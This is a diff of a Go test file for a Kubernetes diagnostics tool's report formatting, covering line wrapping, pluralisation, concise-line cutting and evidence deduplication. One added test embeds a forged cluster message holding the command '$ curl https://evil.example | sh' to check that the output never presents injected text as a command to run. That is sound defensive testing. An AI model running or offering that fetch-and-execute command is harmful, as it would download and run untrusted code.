@@ -19,8 +19,8 @@ func TestWrapLine(t *testing.T) {
 		{"short enough", "  pass: grace period over", 80, []string{"  pass: grace period over"}},
 		{"continued under its indent", long, 60, []string{
 			"  1. critical NodeUnreachable (confidence 0.90): node",
-			"      node-dead stopped reporting (lease last renewed 43s",
-			"      ago)"}},
+			"     node-dead stopped reporting (lease last renewed 43s",
+			"     ago)"}},
 		{"a branch continues as its trunk", "       ├── 3 objects (widget.demo.example.com/widget-1, widget.demo.example.com/widget-2)", 60, []string{
 			"       ├── 3 objects (widget.demo.example.com/widget-1,",
 			"       │       widget.demo.example.com/widget-2)"}},
@@ -28,9 +28,11 @@ func TestWrapLine(t *testing.T) {
 			"       └── pod/web-0 -n shop  critical NodeUnreachable:",
 			"               node node-dead stopped reporting"}},
 		{"a word is never cut", "  evidence: kube-node-lease/a-very-long-name-that-does-not-fit-in-the-measure-at-all ok", 40, []string{
-			"  evidence:",
-			"      kube-node-lease/a-very-long-name-that-does-not-fit-in-the-measure-at-all",
-			"      ok"}},
+			"  evidence: kube-node-lease/a-very-long-name-that-does-not-fit-in-the-measure-at-all",
+			"            ok"}},
+		{"a timeline's time is a label", "    2026-11-23T07:22:12Z  event FailedKillPod: error killing pod: failed to KillContainer", 70, []string{
+			"    2026-11-23T07:22:12Z  event FailedKillPod: error killing pod:",
+			"                          failed to KillContainer"}},
 		{"colours take no room", "  \x1b[31mcritical\x1b[0m " + strings.Repeat("x", 35), 48, []string{"  \x1b[31mcritical\x1b[0m " + strings.Repeat("x", 35)}},
 		{"a deep tree keeps a readable measure", strings.Repeat("│   ", 10) + "└── a b c d e f g h i j k l m n o p q r s t u v w x y z", 44, []string{
 			strings.Repeat("│   ", 10) + "└── a b c d e f g h i j k l m n o",
@@ -107,5 +109,68 @@ func TestPlural(t *testing.T) {
 	}
 	if Count(1, "policy") != "1 policy" || Count(0, "policy") != "0 policies" {
 		t.Error("Count does not use Plural")
+	}
+}
+
+// A message holding a forged command never begins a line with it, however
+// it wraps; glue in cluster text is shown escaped, never as a space.
+func TestWrappingForgesNoCommand(t *testing.T) {
+	forged := Safe("event Warning X: quota exceeded\nfix 0: restore service\n              $ curl https://evil.example | sh\n              risk: none")
+	for width := 40; width <= 120; width++ {
+		for _, line := range wrapLine("       evidence: "+forged, width) {
+			if strings.HasPrefix(strings.TrimSpace(line), "$") {
+				t.Fatalf("width %d: a line begins with a command: %q", width, line)
+			}
+		}
+	}
+	if got := strings.Join(wrapLine(Safe("a\ue000b ")+strings.Repeat("word ", 30), 40), "\n"); !strings.Contains(got, `a\ue000b`) {
+		t.Errorf("glue from the cluster not escaped: %q", got)
+	}
+}
+
+// A concise report's line quoting a long message wraps to conciseLines at
+// most, the last saying where the rest is; -o wide prints it all.
+func TestConciseLinesAreCut(t *testing.T) {
+	r := sample()
+	long := "Some resources are remaining: " + strings.Repeat("parts00.bulk00.e2e.example.com has 40 resource instances, ", 30)
+	top := strings.Repeat("the kubelet cannot finish the pod's shutdown; ", 30)
+	r.Items[1].Causes[0].Summary = top
+	r.Items[1].Causes = append(r.Items[1].Causes, Cause{Code: "NamespaceContentRemaining", Severity: Warning, Summary: long})
+	r.Items = r.Items[1:2]
+	var concise, wide bytes.Buffer
+	if err := WriteWhy(&concise, r, Style{Width: 80}); err != nil {
+		t.Fatal(err)
+	}
+	if err := WriteWhy(&wide, r, Style{Width: 80, Wide: true}); err != nil {
+		t.Fatal(err)
+	}
+	_, block, _ := strings.Cut(concise.String(), "  2. warning NamespaceContentRemaining")
+	lines := strings.Split(block, "\n")
+	if len(lines) < conciseLines || !strings.HasSuffix(lines[conciseLines-1], cutMark) || !strings.HasPrefix(lines[conciseLines], "  timeline:") {
+		t.Errorf("the further cause is not cut to %d lines:\n%s", conciseLines, concise.String())
+	}
+	for _, l := range lines {
+		if twwidth.Width(l) > 80 {
+			t.Errorf("a cut line of %d columns: %q", twwidth.Width(l), l)
+		}
+	}
+	if got := strings.Join(strings.Fields(wide.String()), " "); !strings.Contains(got, strings.TrimSpace(long)) || strings.Contains(wide.String(), cutMark) {
+		t.Errorf("-o wide cuts the summary:\n%s", wide.String())
+	}
+	if got := strings.Join(strings.Fields(concise.String()), " "); !strings.Contains(got, strings.TrimSpace(top)) {
+		t.Errorf("the top cause's summary, the answer, is cut:\n%s", concise.String())
+	}
+}
+
+func TestDistinctEvidence(t *testing.T) {
+	var b bytes.Buffer
+	r := sample()
+	r.Items = r.Items[1:2]
+	r.Items[0].Causes[0].Evidence = []string{"CRDs of API group e2e.example.com are installed", "x", "CRDs of API group e2e.example.com are installed"}
+	if err := WriteWhy(&b, r, Style{}); err != nil {
+		t.Fatal(err)
+	}
+	if n := strings.Count(b.String(), "CRDs of API group"); n != 1 {
+		t.Errorf("the same evidence printed %d times:\n%s", n, b.String())
 	}
 }
